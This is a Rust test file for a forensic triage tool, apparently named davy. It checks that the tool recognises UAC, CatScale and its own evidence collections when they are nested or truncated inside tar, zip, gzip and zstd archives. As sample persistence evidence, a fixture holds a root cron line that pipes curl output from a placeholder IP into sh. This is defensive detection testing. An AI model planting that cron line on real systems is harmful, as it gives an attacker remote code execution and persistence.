//! Archives that someone packed once more: known by what they hold, whatever they are called.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use davy::evidence::davy::About;
use davy::evidence::{Evidence, Recording, TextHost};
use davy::facts::Facts;
use davy::{collect, foreign};
use std::io::{Cursor, Write};
use std::path::Path;
use std::process::Command;

fn tar(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut tar = tar::Builder::new(Vec::new());
    for (name, bytes) in members {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        tar.append_data(&mut header, name, *bytes).unwrap();
    }
    tar.into_inner().unwrap()
}

fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in members {
        zip.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn gz(bytes: &[u8]) -> Vec<u8> {
    let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    packer.write_all(bytes).unwrap();
    packer.finish().unwrap()
}

const CRON: &[u8] = b"* * * * * root curl http://198.51.100.9/a|sh\n";

fn uac() -> Vec<u8> {
    tar(&[
        ("uac.log", b"2026-11-22 05:23:08 +0000 INF Operating system: linux\n"),
        ("[root]/etc/passwd", b"root:x:0:0::/root:/bin/sh\n"),
        ("[root]/etc/cron.d/x", CRON),
    ])
}

fn catscale() -> Vec<u8> {
    let crontabs = gz(&tar(&[("etc/cron.d/x", CRON)]));
    tar(&[
        ("./out/Persistence/h-1-cron-folder.tar.gz", &crontabs),
        ("./out/Process_and_Network/h-1-process-exe-links.txt", b""),
    ])
}

fn root() -> Vec<u8> {
    tar(&[
        ("./etc/passwd", b"root:x:0:0::/root:/bin/sh\n"),
        ("./etc/cron.d/x", CRON),
        ("./bin", b""),
    ])
}

/// davy's own, of a host with one crontab.
fn own(host: &str) -> Vec<u8> {
    let page = format!(
        "host hostname={host} taken=2026-11-22T06:24:17Z booted=2026-11-01T00:00:00Z\n\
         file /etc/cron.d/x\n  | {}",
        String::from_utf8_lossy(CRON)
    );
    let recording = Recording::new(TextHost::parse("x.host", &page).unwrap());
    let about = About { tool: "davy".into(), arguments: Vec::new(), memory: "none".into() };
    let mut writer = recording.archive(Vec::new(), &about).unwrap();
    let facts = Facts::in_memory(&davy::tables()).unwrap();
    collect::collect(&recording, &facts, &|_| ()).unwrap();
    recording.write(&mut writer, true).unwrap();
    writer.finish().unwrap().0
}

fn opened(bytes: Vec<u8>) -> Result<Box<dyn Evidence>, String> {
    foreign::open("x.tar", Box::new(Cursor::new(bytes)), None)
}

/// Sources of the entries of cron, and the coverage that speaks of the archive.
fn cron(bytes: Vec<u8>) -> (Vec<String>, String) {
    let host = opened(bytes).unwrap();
    let mut facts = Facts::in_memory(&davy::tables()).unwrap();
    facts.set_origin(host.origin());
    collect::collect(host.as_ref(), &facts, &|_| {}).unwrap();
    let rows = "SELECT source FROM persistence WHERE kind = 'cron' AND source LIKE '%cron.d/x%'";
    let words = "SELECT what || ': ' || detail FROM coverage WHERE what LIKE 'archive %'";
    let words: Vec<String> = facts.rows(words, [], |r| r.get(0)).unwrap();
    (facts.rows(rows, [], |r| r.get(0)).unwrap(), words.join("\n"))
}

#[test]
fn whatever_it_is_called_and_however_it_is_packed() {
    let zst = ruzstd::encoding::compress_to_vec(
        uac().as_slice(),
        ruzstd::encoding::CompressionLevel::Fastest,
    );
    for (what, bytes) in [
        ("UAC", uac()),
        ("UAC in gzip", gz(&uac())),
        ("UAC in zstd", zst),
        (
            "UAC in zip",
            zip(&[("uac.log", b""), ("[root]/etc/passwd", b""), ("[root]/etc/cron.d/x", CRON)]),
        ),
        ("CatScale", catscale()),
        ("CatScale in gzip", gz(&catscale())),
        ("a root", root()),
        ("a root in gzip", gz(&root())),
        ("davy", own("web-03")),
        ("davy in gzip", gz(&own("web-03"))),
    ] {
        for (how, packed) in [
            ("in tar", tar(&[("notes.txt", b"hello"), ("case/evidence.bin", &bytes)])),
            ("in zip", zip(&[("a/b/evidence", &bytes), ("notes.txt", b"hello")])),
            ("in tar in zip", zip(&[("1", &tar(&[("2", &bytes)]))])),
            ("in zip in tar.gz", gz(&tar(&[("1", &zip(&[("2", &bytes)]))]))),
        ] {
            if what.ends_with("in zip") && how.contains("zip") {
                continue;
            }
            let (sources, words) = cron(packed);
            assert_eq!(sources.len(), 1, "{what} {how}: {words}");
        }
    }
    // A zip in a zip is held; a third one is not.
    let inner = zip(&[("uac.log", b""), ("[root]/etc/passwd", b""), ("[root]/etc/cron.d/x", CRON)]);
    assert_eq!(cron(zip(&[("1", &inner)])).0, ["x.tar:1![root]/etc/cron.d/x:1"]);
    let why = opened(zip(&[("1", &zip(&[("2.zip", &inner)]))])).err().unwrap();
    assert!(why.contains("2.zip") && why.contains("unpack it"), "{why}");
}

#[test]
fn several_are_told_and_none_is_chosen() {
    let two = tar(&[("one", &gz(&uac())), ("two", &catscale()), ("three", &own("web-03"))]);
    let why = opened(two).err().unwrap();
    for part in ["several archives", "one (UAC)", "two (CatScale)", "three (davy)", "davy batch"] {
        assert!(why.contains(part), "{part}: {why}");
    }
    // Which of them is damaged does not matter.
    let cut = gz(&uac());
    let two = zip(&[("one", &cut[..cut.len() - 40]), ("b/two", &own("web-03"))]);
    assert!(opened(two).err().unwrap().contains("several archives: one (UAC), b/two (davy)"));
}

#[test]
fn an_archive_among_the_files_of_a_host_is_a_file() {
    let planted = tar(&[
        ("uac.log", b"2026-11-22 05:23:08 +0000 INF Operating system: linux\n"),
        ("[root]/etc/passwd", b""),
        ("[root]/etc/hostname", b"another\n"),
    ]);
    // Before anything tells that it is a root file system, and after.
    for name in ["./0.bin", "./zz.tar"] {
        let mut members: Vec<(&str, &[u8])> = vec![
            ("./etc/passwd", b"root:x:0:0::/root:/bin/sh\n"),
            ("./etc/cron.d/x", CRON),
            ("./bin", b""),
        ];
        members.push((name, &planted));
        members.sort_unstable();
        let (sources, words) = cron(tar(&members));
        assert_eq!(sources, ["x.tar:etc/cron.d/x:1"], "{name}: {words}");
        assert!(!words.contains("another"), "{words}");
        assert_eq!(
            name == "./0.bin",
            words.contains("0.bin: holds a collection of UAC"),
            "{words}"
        );
    }
    // Nor one that a collector took from the host's disk.
    let (sources, _) = cron(tar(&[
        ("uac.log", b"2026-11-22 05:23:08 +0000 INF Operating system: linux\n"),
        ("[root]/etc/cron.d/x", CRON),
        ("[root]/etc/passwd", b""),
        ("[root]/tmp/uac-b.tar", &planted),
    ]));
    assert_eq!(sources, ["x.tar:[root]/etc/cron.d/x:1"]);
}

#[test]
fn a_cut_is_told_through_all_packing() {
    let whole = tar(&[("e", &gz(&uac())), ("f", &[b'x'; 4000])]);
    let (sources, words) = cron(whole[..whole.len() - 3000].to_vec());
    assert_eq!(sources.len(), 1);
    assert!(words.contains("cut"), "{words}");
    let packed = gz(&uac());
    let (_, words) = cron(tar(&[("e", &packed[..packed.len() - 40])]));
    assert!(words.contains("cut") && words.contains("may be anything"), "{words}");
}

fn triage(source: &Path) -> (i32, String) {
    let mut command = Command::new(env!("CARGO_BIN_EXE_davy"));
    let ran = command.arg("triage").arg(source).args(["-q", "--memory", "none"]).output().unwrap();
    let text = [ran.stdout, ran.stderr].concat();
    let words: Vec<_> =
        String::from_utf8_lossy(&text).split_whitespace().map(str::to_owned).collect();
    (ran.status.code().unwrap(), words.join(" "))
}

#[test]
fn a_folder_of_archives_is_its_archives() {
    let folder = tempfile::tempdir().unwrap();
    let inside = folder.path().join("host/of/one");
    std::fs::create_dir_all(&inside).unwrap();
    std::fs::write(inside.join("download(1)"), gz(&uac())).unwrap();
    let (code, text) = triage(folder.path());
    assert!(text.contains("members of download(1)."), "{text}");
    assert!(text.contains("seen in [root]/etc/cron.d/x"), "{text}");
    assert_eq!(code, 0);
    assert!(!text.contains("other files"), "{text}");
    std::fs::write(folder.path().join("notes.txt"), "x").unwrap();
    let (_, text) = triage(folder.path());
    assert!(text.contains("1 other files were not (notes.txt)"), "{text}");
    // A second archive is a further one of the host, a third of another is refused with what to do.
    std::fs::write(inside.join("second"), own("web-03")).unwrap();
    let (_, text) = triage(folder.path());
    assert!(text.contains("second:[root]/etc/cron.d/x:1"), "{text}");
    std::fs::remove_file(inside.join("download(1)")).unwrap();
    std::fs::write(inside.join("third"), own("db-01")).unwrap();
    let (code, text) = triage(folder.path());
    assert!(code == 2 && text.contains("of different hosts (db-01 and web-03)"), "{text}");
}
